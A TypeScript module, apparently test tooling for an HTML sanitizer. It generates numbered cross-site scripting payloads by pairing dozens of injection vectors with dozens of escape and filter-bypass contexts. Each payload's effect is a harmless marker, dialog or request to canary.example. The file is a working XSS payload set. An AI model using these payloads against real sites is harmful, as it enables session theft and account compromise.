import { dice } from "../../../src/lib/random.ts";

/** Host that nobody but a payload asks. */
const canaryHost = "canary.example";

/** A payload with the parts it was made of, so that a hit tells what let it through. */
export interface Payload {
  number: number;
  vector: string;
  context: string;
  text: string;
}

/** What a payload does when it runs: it leaves a mark on the window, opens a dialog, and asks the canary host. */
function deedOf(number: number): string {
  const deeds = [
    `window.__hit=${number}`,
    `alert(${number})`,
    `new(Image)().src='//${canaryHost}/${number}'`,
    `top.__hit=${number}`,
    `fetch('//${canaryHost}/${number}')`,
    `(window.__hit=${number},confirm())`,
  ];
  return deeds[number % deeds.length] as string;
}

type Maker = (js: string, canary: string) => string;

/** Ways to run a script or to ask another host: what stands in the page if nothing stops it. */
const vectors: Record<string, Maker> = {
  script: (js) => `<script>${js}</script>`,
  "script with a source": (_, canary) => `<script src=${canary}></script>`,
  "script from data": (js) => `<script src="data:text/javascript,${js}"></script>`,
  "module script": (js) => `<script type=module>${js}</script>`,
  "image error": (js) => `<img src=x onerror=${js}>`,
  "image error, quoted": (js) => `<img src="x" OnErRoR="${js}">`,
  "image error, slashes": (js) => `<img/src=x/onerror=${js}>`,
  "image load": (_, canary) => `<img src=${canary}>`,
  "image set": (_, canary) => `<img srcset="${canary} 1x, ${canary}?2 2x">`,
  "svg load": (js) => `<svg onload=${js}>`,
  "svg script": (js) => `<svg><script>${js}</script></svg>`,
  "svg link": (js) => `<svg><a xlink:href="javascript:${js}"><text y=9>x</text></a></svg>`,
  "svg use": (_, canary) => `<svg><use href="${canary}#x"/></svg>`,
  "svg image": (_, canary) => `<svg><image href="${canary}" width=9 height=9 /></svg>`,
  "svg animation": (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s></svg>`,
  "svg set": (js) =>
    `<svg><a><set attributeName=href to="javascript:${js}"/><text y=9>x</text></a></svg>`,
  "body load": (js) => `<body onload=${js}>`,
  "input focus": (js) => `<input autofocus onfocus=${js}>`,
  "any focus": (js) => `<x id=x tabindex=1 autofocus onfocus=${js}>x</x>`,
  "details toggle": (js) => `<details open ontoggle=${js}><summary>x</summary></details>`,
  "video error": (js) => `<video><source src=x onerror=${js}></video>`,
  "video poster": (_, canary) => `<video poster=${canary} src=${canary}></video>`,
  "audio error": (js) => `<audio src=x onerror=${js}>`,
  "marquee start": (js) => `<marquee onstart=${js}>x</marquee>`,
  "style load": (js) => `<style onload=${js}></style>`,
  "style import": (_, canary) => `<style>@import "${canary}";</style>`,
  "style attribute": (_, canary) => `<p style="background:url(${canary})">x</p>`,
  "transition end": (js) => `<p style="transition:color 1ms" ontransitionend=${js}>x</p>`,
  "frame source": (js) => `<iframe src="javascript:${js}"></iframe>`,
  "frame document": (js) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  "object data": (js) => `<object data="data:text/html,<script>${js}</script>"></object>`,
  embed: (js) => `<embed src="javascript:${js}">`,
  "link click": (js) => `<a href="javascript:${js}">x</a>`,
  "link, tabs in the scheme": (js) => `<a href="java\tscri\npt:${js}">x</a>`,
  "link, control in front": (js) => `<a href="\u0001\u0008 javascript:${js}">x</a>`,
  "link, character references": (js) => `<a href="&#106;avascript&colon;${js}">x</a>`,
  "link to data": (js) => `<a href="data:text/html,<script>${js}</script>">x</a>`,
  "link to vbscript": () => '<a href="vbscript:msgbox(1)">x</a>',
  "link ping": (_, canary) => `<a ping="${canary}" href="https://ok.example/">x</a>`,
  "form action": (js) => `<form action="javascript:${js}"><input type=submit></form>`,
  "button action": (js) =>
    `<form id=f></form><button form=f formaction="javascript:${js}">x</button>`,
  refresh: (_, canary) => `<meta http-equiv=refresh content="0;url=${canary}">`,
  base: () => `<base href="//${canaryHost}/">`,
  "style sheet": (_, canary) => `<link rel=stylesheet href=${canary}>`,
  preload: (_, canary) =>
    `<link rel=preload as=image href=${canary}><link rel=prefetch href=${canary}>`,
  manifest: (_, canary) => `<link rel=manifest href=${canary}>`,
  "math link": (js) => `<math href="javascript:${js}">x</math>`,
  background: (_, canary) => `<table background=${canary}><td background=${canary}>x</table>`,
  portal: (_, canary) => `<portal src=${canary}></portal><fencedframe src=${canary}></fencedframe>`,
  "shadow root": (js) =>
    `<div><template shadowrootmode=open><img src=x onerror=${js}></template></div>`,
};

/** What stands around a vector, to get out of where a text is put, or past what cleans it. */
const contexts: Record<string, (vector: string) => string> = {
  bare: (v) => v,
  "out of a double quote": (v) => `">${v}`,
  "out of a single quote": (v) => `'>${v}`,
  "out of an unquoted value": (v) => ` x=y>${v}`,
  "out of a backtick": (v) => `\`>${v}`,
  "out of a title": (v) => `</title>${v}`,
  "out of a text area": (v) => `</textarea>${v}`,
  "out of a script": (v) => `</script>${v}`,
  "out of JSON in a script": (v) => `"}]</script>${v}`,
  "out of a style": (v) => `</style>${v}`,
  "out of a comment": (v) => `-->${v}<!--`,
  "out of CDATA": (v) => `]]>${v}<![CDATA[`,
  "out of an XML element": (v) => `</title></item>${v}<item><title>`,
  "out of an attribute name": (v) => `" autofocus onfocus="window.__hit=1" x="${v}`,
  "in a template": (v) => `<template>${v}</template>`,
  "in a noscript": (v) => `<noscript><p title="</noscript>${v}"></noscript>`,
  "in a title element": (v) => `<title><a title="</title>${v}"></title>`,
  "in xmp": (v) => `<xmp><p title="</xmp>${v}"></xmp>`,
  "in noembed": (v) => `<noembed><a title="</noembed>${v}"></noembed>`,
  "in a select": (v) => `<select><option>${v}</select>`,
  "in a table": (v) => `<table><caption>${v}</table>`,
  "in a foreign style": (v) => `<svg></p><style><a id="</style>${v}">`,
  "in a foreign title": (v) => `<svg><title><style><img title="</style></title>${v}"></svg>`,
  "in math": (v) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${v}">`,
  "in math with a form": (v) => `<form><math><mtext></form><form><mglyph><style></math>${v}`,
  "in an annotation": (v) =>
    `<math><annotation-xml encoding="text/html">${v}</annotation-xml></math>`,
  "in a foreign object": (v) => `<svg><foreignObject>${v}</foreignObject></svg>`,
  "in CDATA": (v) => `<svg><![CDATA[><${v.slice(1)}]]></svg>`,
  "in a comment that ends at once": (v) => `<!-->${v}-->`,
  "in a conditional comment": (v) => `<!--[if gte IE 4]>${v}<![endif]-->`,
  "in a processing instruction": (v) => `<?xml version="1.0"?>${v}<?php ?>`,
  "in a frame document": (v) => `<iframe srcdoc="${v.replaceAll('"', "&quot;")}"></iframe>`,
  "behind an open tag": (v) => `<<p title=x ${v}`,
  "nested in itself": (v) => v.replace(/<([a-z]+)/, "<$1<$1"),
  "with references": (v) => v.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  "with references twice": (v) => v.replaceAll("<", "&amp;lt;").replaceAll(">", "&amp;gt;"),
  "with numbers": (v) => v.replaceAll("<", "&#60;").replaceAll(">", "&#x3e;"),
  "with JSON escapes": (v) => v.replaceAll("<", "\\u003c").replaceAll(">", "\\x3e"),
  "with percents": (v) => v.replaceAll("<", "%3C").replaceAll(">", "%3E"),
  "in full width": (v) => v.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"),
  "in upper case": (v) => v.replace(/<\/?[a-z]+/gi, (tag) => tag.toUpperCase()),
  "with NULs": (v) => v.replace(/<([a-z])/gi, "<\0$1").replace(/on([a-z])/gi, "on\0$1"),
  "with form feeds": (v) => v.replace(/ /g, "\f"),
  "with line separators": (v) => `\u2028${v}\u2029`,
  "with a byte order mark": (v) => `\ufeff${v}`,
  "with half a character": (v) => `${v}\ud83d`,
  unclosed: (v) => v.replace(/>[^>]*$/, " "),
  "as a markdown link": (v) => `[x](javascript:alert%281%29) ![${v}](https://${canaryHost}/md)`,
  "as a template expression": (v) => `{{constructor.constructor('window.__hit=1')()}}<%= 1 %>${v}`,
  "as a URL": (v) => `javascript:/*--></title></style></textarea></script>${v}*/window.__hit=1`,
};

const vectorNames = Object.keys(vectors);
const contextNames = Object.keys(contexts);

/**
 * Different payloads, drawn from all pairs of a vector and a context: each of both stands in one at least, where
 * there are enough of them.
 */
export function drawPayloads(seed: number, count: number): Payload[] {
  const throws = dice(seed, 51);
  const shift = throws.roll(contextNames.length);
  const payloads: Payload[] = [];
  const all = vectorNames.length * contextNames.length;
  for (let number = 0; number < Math.min(count, all); number++) {
    const turn = Math.floor(number / vectorNames.length);
    const vector = vectorNames[number % vectorNames.length] as string;
    const at = (number + turn * 7 + shift) % contextNames.length;
    const context = contextNames[at] as string;
    payloads.push({ number, vector, context, text: textOf(vector, context, number) });
  }
  return payloads;
}

function textOf(vector: string, context: string, number: number): string {
  const make = vectors[vector] as Maker;
  const wrap = contexts[context] as (vector: string) => string;
  return wrap(make(deedOf(number), `//${canaryHost}/${number}`));
}
